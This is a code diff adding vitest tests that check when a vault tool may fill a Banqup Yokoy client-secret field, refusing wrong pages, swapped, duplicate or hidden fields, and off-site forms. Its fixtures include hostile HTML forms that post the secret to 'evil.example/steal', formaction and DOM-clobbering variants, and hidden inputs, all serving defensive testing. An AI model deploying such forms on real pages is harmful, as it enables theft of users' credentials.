@@ -1,6 +1,6 @@
 /** Filling Banqup's fields from the vault: the way frameworks notice, and only where allowed. */
 import { describe, expect, it } from 'vitest';
-import { fillRefusal, selectOption, setValueLikeUser } from '../../lib/guide/fill';
+import { fillRefusal, formRefusal, selectOption, setValueLikeUser } from '../../lib/guide/fill';
 
 const banqup = { hostname: 'app.banqup.com', protocol: 'https:' };
 const input = (type: string) => Object.assign(document.createElement('input'), { type });
@@ -37,5 +37,59 @@ describe('fill from the vault', () => {
     expect(select.value).toBe('other');
     expect(selectOption(select, { id: 'nope', name: 'Nope' })).toBe(false);
     expect(changes).toBe(2);
+  });
+
+  describe('only into Banqup’s own Yokoy connection form (issue 12)', () => {
+    const setupPage = new URL('https://app.banqup.com/apps/accounting/yokoy');
+    const form = (html: string) => {
+      document.body.innerHTML = html;
+      return document.querySelector<HTMLInputElement>('input[type="password"]')!;
+    };
+    const banqupForm =
+      '<form id="f"><input name="clientId"><label for="s">Yokoy client secret</label><input id="s" type="password" name="clientSecret"><input name="organizationId"></form>';
+
+    it('fills the field the guide located, on the setup page', () => {
+      const field = form(banqupForm);
+      expect(formRefusal('clientSecret', field, { location: setupPage, watched: field })).toBeUndefined();
+    });
+
+    it('refuses another page, a field swapped in, a look-alike field, a second password field', () => {
+      const field = form(banqupForm);
+      expect(formRefusal('clientSecret', field, { location: new URL('https://app.banqup.com/purchases'), watched: field })).toBe('not-setup-page');
+      expect(formRefusal('clientSecret', field, { location: setupPage, watched: undefined })).toBe('field-changed');
+      expect(formRefusal('clientSecret', field, { location: setupPage, watched: document.createElement('input') })).toBe('field-changed');
+      const lookalike = form('<form><input type="password" name="password"></form>');
+      expect(formRefusal('clientSecret', lookalike, { location: setupPage, watched: lookalike })).toBe('not-banqup-field');
+      const twice = form(banqupForm + '<form><input type="password" name="secret"></form>');
+      expect(formRefusal('clientSecret', twice, { location: setupPage, watched: twice })).toBe('not-unique');
+    });
+
+    it('refuses a form that posts elsewhere, however it says so', () => {
+      for (const html of [
+        '<form action="https://evil.example/steal"><input type="password" name="clientSecret" aria-label="Yokoy client secret"></form>',
+        '<form action="//evil.example/"><input type="password" name="clientSecret" aria-label="Yokoy client secret"></form>',
+        '<form><input type="password" name="clientSecret" aria-label="Yokoy client secret"><button formaction="https://evil.example/">Go</button></form>',
+        '<form id="w"><input type="password" name="clientSecret" aria-label="Yokoy client secret"></form><button form="w" formaction="https://evil.example/">Go</button>',
+        // Clobbering: form.action would be this input, not the attribute.
+        '<form action="https://evil.example/"><input name="action"><input type="password" name="clientSecret" aria-label="Yokoy client secret"></form>',
+      ]) {
+        const field = form(html);
+        expect(formRefusal('clientSecret', field, { location: setupPage, watched: field }), html).toBe('form-leaves-banqup');
+      }
+      const same = form('<form action="/api/v1/accounting/setup"><input type="password" name="clientSecret" aria-label="Yokoy client secret"></form>');
+      expect(formRefusal('clientSecret', same, { location: setupPage, watched: same })).toBeUndefined();
+    });
+
+    it('refuses a hidden field', () => {
+      for (const html of [
+        '<form hidden><input type="password" name="clientSecret" aria-label="Yokoy client secret"></form>',
+        '<form style="display:none"><input type="password" name="clientSecret" aria-label="Yokoy client secret"></form>',
+        '<div style="opacity:0"><form><input type="password" name="clientSecret" aria-label="Yokoy client secret"></form></div>',
+        '<form><input type="password" name="clientSecret" aria-label="Yokoy client secret" style="visibility:hidden"></form>',
+      ]) {
+        const field = form(html);
+        expect(formRefusal('clientSecret', field, { location: setupPage, watched: field }), html).toBe('hidden');
+      }
+    });
   });
 });
